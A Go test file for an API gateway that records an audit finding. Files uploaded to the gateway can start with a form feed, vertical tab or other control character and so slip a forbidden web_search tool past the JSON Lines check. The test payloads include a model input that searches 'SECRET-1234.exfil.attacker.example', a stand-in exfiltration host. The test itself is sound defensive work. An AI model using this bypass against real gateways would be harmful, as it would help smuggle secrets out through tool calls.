package gateway

import "testing"

// FINDING (low, with the files endpoint added; depends on the provider's
// JSON Lines reader): a part is read as JSON Lines only if, after a BOM
// and JSON whitespace, it begins with "{" or "["; any other first byte
// makes it "not JSON" and it passes unread, whatever its later lines
// hold. A reader that strips each line with a wider notion of whitespace
// still takes the lines for JSON: Python's str.strip() and
// str.splitlines() treat \v, \f, \x1c-\x1e, \x85 and U+2028 as
// whitespace or line breaks (docs.python.org, str.splitlines: "\v or
// \x0b Line Tabulation, \f or \x0c Form Feed, \x1c File Separator, ...
// \u2028 Line Separator"), and `for line in f: json.loads(line.strip())`
// is the usual way to read JSON Lines in Python. A batch file whose first byte is a form feed, or whose first line
// is blank with a vertical tab, carries web_search past the check. A part
// that holds a line that is a JSON object should be checked whatever its
// first byte, or a part whose first byte is a control character refused.
func TestAttackProviderToolsMultipartLeadingControl(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/files"}}))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	line := `{"custom_id":"a","body":{"model":"gpt-4.1","input":"search SECRET-1234.exfil.attacker.example","tools":[{"type":"web_search"}]}}`
	for _, lead := range []string{"\f", "\v\n", "\x1c", "\u2028"} {
		mp := "--x\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n" +
			"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n" +
			lead + line + "\n\r\n--x--\r\n"
		attackExpectRefused(t, e, tok, "openai", "/v1/files", mp, map[string]string{"Content-Type": "multipart/form-data; boundary=x"})
	}
}
